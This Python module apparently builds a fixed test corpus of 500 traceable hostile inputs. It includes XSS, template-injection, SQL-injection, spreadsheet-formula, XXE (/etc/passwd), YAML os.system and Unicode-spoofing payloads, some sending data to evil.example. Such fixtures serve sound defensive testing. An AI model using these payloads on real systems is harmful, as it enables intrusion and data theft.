"""Five hundred texts that try to be more than text: 500 of our own making, always the same ones.

Each carries its number, so that it is known again wherever it comes out. ``PWNED`` is what a
script would set if it ever ran.
"""

from __future__ import annotations

from itertools import cycle, islice, product

PWNED = "window.pwned"
COUNT = 500

ELEMENTS = (
    "<script>{js}</script>",
    "<ScRiPt src=//evil.example/{n}.js></sCrIpT>",
    "<img src=x onerror={js}>",
    "<img src='x' onerror='{js}'/>",
    '<svg onload="{js}">',
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<math><mtext><mglyph><style><img src=x onerror={js}></style></mglyph></mtext></math>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<iframe src=javascript:{js}></iframe>",
    "<object data='data:text/html,<script>{js}</script>'></object>",
    "<embed src=javascript:{js}>",
    "<a href=javascript:{js}>tryck här</a>",
    "<a href='jav&#x09;ascript:{js}'>press</a>",
    "<form action=javascript:{js}><button>OK</button></form>",
    "<button formaction=javascript:{js}>OK</button>",
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<body onload={js}>",
    "<marquee onstart={js}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css';*{{background:url(//evil.example/{n})}}</style>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<textarea></textarea><script>{js}</script>",
    "<title></title><script>{js}</script>",
    "<div hx-get=//evil.example/{n} hx-trigger=load>",
    "<div hx-on:click={js} hx-on::load={js}>",
    "<div hx-swap-oob=true id=main>borta</div>",
    "<x-element onclick={js} tabindex=0 autofocus onfocus={js}>",
)
ESCAPES = (
    "{}",
    '">{}',
    "'>{}",
    "</p>{}",
    "</textarea>{}",
    "</title>{}",
    "--><!-- -->{}",
    "]]>{}",
    "\\u003c{}",
    "%3Cscript%3E{}",
)
ATTRIBUTES = (
    '" onmouseover={js} x="',
    "' onfocus={js} autofocus x='",
    "` onclick={js}",
    "javascript:{js}",
    "JaVaScRiPt&colon;{js}",
    "\x01javascript:{js}",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "vbscript:{js}",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<\u0000script>{js}</script>",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "<!--><script>{js}</script>-->",
    "<![CDATA[<script>{js}</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
)
TEMPLATES = (
    "{{{{ 7 * {n} }}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}",
    "{{{{ config }}}} {{{{ request.app.state.settings }}}}",
    "${{7*{n}}} #{{7*{n}}} <%= 7*{n} %> [[7*{n}]]",
    "%(name)s %(num)s %s %d %n {{0}} {{name.__class__}}",
    "{{{{ ''|attr('__class__') }}}}{{{{ cycler.__init__.__globals__ }}}}",
    "{{# kommentar #}}{{%- raw -%}}",
)
DATABASES = (
    "'; DROP TABLE contributions; -- {n}",
    "' OR '1'='1' -- {n}",
    "Robert'); DELETE FROM participants WHERE ('1'='1",
    "%' UNION SELECT secret_hash, name FROM participants -- {n}",
    "\\'; PRAGMA writable_schema=1; -- {n}",
    "$$; SELECT pg_sleep(10) -- {n}",
)
SHEETS = (
    '=HYPERLINK("http://evil.example/{n}","Klicka")',
    "=cmd|' /C calc'!A{n}",
    "+1+{n}",
    "-2+3+cmd|' /C calc'!A{n}",
    "@SUM(1+{n})",
    "\t=1+{n}",
    "\r=1+{n}",
    '"=1+{n}";"=2"',
    '=IMPORTXML(CONCAT("http://evil.example/?x=",A{n}),"//a")',
    " =1+{n}",
    "\u00a0=1+{n}",
    "\uff1d1+{n}",
)
MARKUP = (
    "[tryck](javascript:{js})",
    "![x](//evil.example/{n}.png)",
    "# rubrik\n---\nfront: matter\n---",
    "```\n</code><script>{js}</script>\n```",
    "<http://evil.example/{n}>",
    "key: !!python/object/apply:os.system ['true {n}']",
    "&a [*a, *a, *a, *a]",
    "BEGIN:VEVENT\r\nSUMMARY:{n}\r\nEND:VEVENT",
    "Subject: {n}\r\nBcc: all@evil.example\r\n\r\nHej",
    "Set-Cookie: hub_account={n}\r\n\r\n<script>{js}</script>",
    "../../../../etc/passwd {n}",
    "\\\\evil.example\\share\\{n}",
    '{{"$ne": {n}}}',
    "\x1b[2J\x1b]0;{n}\x07",
)
DIRECTIONS = (
    "\u202e{n} gnirekcol\u202c",
    "\u2066\u2067{n}",
    "godkänd\u202eton{n}",
    "\u200f\u200f{n}\u200f",
    "\u2067" * 60 + "{n}",
    "a\u0300" * 50 + "{n}",
    "Z\u0335\u0321\u0327" * 40 + "{n}",
    "\U000e0001\U000e0068\U000e0069{n}",
    "\u200b\u200c\u200d\u2060{n}\ufeff",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 30 + "{n}",
    "\ufff9{n}\ufffa<b>\ufffb",
    "\u2028{n}\u2029<script>{js}</script>",
)


def _all() -> list[str]:
    scripted = [escape.format(element) for escape, element in product(ESCAPES, ELEMENTS)]
    others = [*ATTRIBUTES, *TEMPLATES, *DATABASES, *SHEETS, *MARKUP, *DIRECTIONS]
    texts = [*scripted, *islice(cycle(others), COUNT - len(scripted))]
    return [
        text.replace("{js}", f"{PWNED}={n}")
        .replace("{n}", str(n))
        .replace("{{", "{")
        .replace("}}", "}")
        for n, text in enumerate(texts)
    ]


def marked(number: int) -> str:
    """One of the texts, and at its end the mark by which it is known again."""
    return f"{TEXTS[number]} {mark(number)}"


def mark(number: int) -> str:
    return f"zq{number:03}qz"


TEXTS = _all()
